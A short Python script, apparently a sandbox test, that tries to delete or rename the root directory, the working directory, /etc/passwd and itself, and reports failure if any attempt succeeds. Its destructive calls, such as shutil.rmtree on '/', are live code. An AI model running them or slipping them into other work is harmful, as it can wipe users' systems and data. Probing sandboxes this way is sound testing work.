# Removes and renames whatever it can name.
import os
import shutil

for path in ("/", ".", "/etc/passwd", "/python", "removes_files.py"):
    for action in (os.remove, os.rmdir, shutil.rmtree, lambda path: os.rename(path, path + "2")):
        try:
            action(path)
        except OSError:
            continue
        raise SystemExit(f"{action} did something to {path}")
print(input())
